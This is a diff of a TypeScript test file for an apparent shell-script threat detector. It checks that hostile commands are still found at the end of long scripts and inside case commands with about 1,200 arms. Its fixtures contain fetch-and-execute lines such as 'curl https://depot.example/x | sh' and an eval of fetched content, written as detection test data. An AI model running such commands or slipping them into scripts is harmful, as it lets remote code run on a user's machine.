@@ -3,7 +3,7 @@ import { longScript } from "../../bench/long-script.js";
 import { sharedDetector } from "../support/marked.js";
 import { assertSound } from "./invariants.js";
 
-/** Commands after the functions of a script. The marked command is in a function that other functions called many times before. */
+/** The ends of long scripts, with the expected finding between « and ». They use functions that the script has called many times. */
 const endings: Readonly<Record<string, string>> = {
   "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
   "a function that executes its argument":
@@ -19,8 +19,8 @@ const endings: Readonly<Record<string, string>> = {
 };
 
 describe("long scripts", { timeout: 120_000 }, () => {
-  // those with an ending have 125,000 characters, and test/slow/hostile-sizes.test.ts reads one of 250,000
-  it("a script of 31,000 characters is read completely", async () => {
+  // the scripts of the next test have 125,000 characters, and test/slow/hostile-sizes.test.ts reads one of 250,000
+  it("of 31,000 characters without a finding are analyzed completely", async () => {
     const text = longScript(31_000);
     const detection = (await sharedDetector()).detect(text);
     assertSound(text, detection);
@@ -28,7 +28,7 @@ describe("long scripts", { timeout: 120_000 }, () => {
     expect(detection.spans).toEqual([]);
   });
 
-  it.each(Object.entries(endings))("%s at its end is found", async (_, marked) => {
+  it.each(Object.entries(endings))("have a finding in the last lines: %s", async (_, marked) => {
     const text = longScript(125_000, marked.replace(/[«»]/g, ""));
     const { findings, outcome } = (await sharedDetector()).detect(text);
     expect(outcome).toEqual({ status: "complete" });
@@ -40,28 +40,31 @@ describe("long scripts", { timeout: 120_000 }, () => {
     ["a pipe after a condition", "installed && «curl https://depot.example/x | sh»"],
     ["a quoted pipe", "echo 'curl https://depot.example/x | sh'"],
     ["a pipe in a comment", "true # curl https://depot.example/x | sh"],
-  ])("with a case of many arms and %s in one of them are read", async (_, marked) => {
-    const command = marked.replace(/[«»]/g, "");
-    const wanted = [/«(.*)»/.exec(marked)?.[1]].filter((each) => each !== undefined);
-    for (const pattern of ["x", "(x)", '"a b"|x', "[xy]*", "*"]) {
-      for (const isOnOneLine of [true, false]) {
-        const [before, behind] = isOnOneLine
-          ? [" ", command.includes("#") ? "\n" : " "]
-          : ["\n", "\n"];
-        const arm = `  ${pattern})${before}${command}${behind};;\n`;
-        const text = `#!/bin/sh\ncase "$1" in\n${manyArms}${arm}${manyArms}esac\n`;
-        const { findings, outcome } = (await sharedDetector()).detect(text, { format: "shell" });
-        expect(outcome, pattern).toEqual({ status: "complete" });
-        expect(
-          findings.map((finding) => finding.text),
-          arm,
-        ).toEqual(wanted);
+  ])(
+    "with a case command of 1,200 arms are analyzed completely: %s in one arm",
+    async (_, marked) => {
+      const command = marked.replace(/[«»]/g, "");
+      const wanted = [/«(.*)»/.exec(marked)?.[1]].filter((each) => each !== undefined);
+      for (const pattern of ["x", "(x)", '"a b"|x', "[xy]*", "*"]) {
+        for (const isOnOneLine of [true, false]) {
+          const [before, behind] = isOnOneLine
+            ? [" ", command.includes("#") ? "\n" : " "]
+            : ["\n", "\n"];
+          const arm = `  ${pattern})${before}${command}${behind};;\n`;
+          const text = `#!/bin/sh\ncase "$1" in\n${manyArms}${arm}${manyArms}esac\n`;
+          const { findings, outcome } = (await sharedDetector()).detect(text, { format: "shell" });
+          expect(outcome, pattern).toEqual({ status: "complete" });
+          expect(
+            findings.map((finding) => finding.text),
+            arm,
+          ).toEqual(wanted);
+        }
       }
-    }
-  });
+    },
+  );
 });
 
-/** More arms than are parsed at once. */
+/** Arms of a case command, more than are parsed at once. */
 const manyArms = Array.from(
   { length: 600 },
   (_, at) => `  ${String(at)}) check && run_${String(at)} ;;\n`,
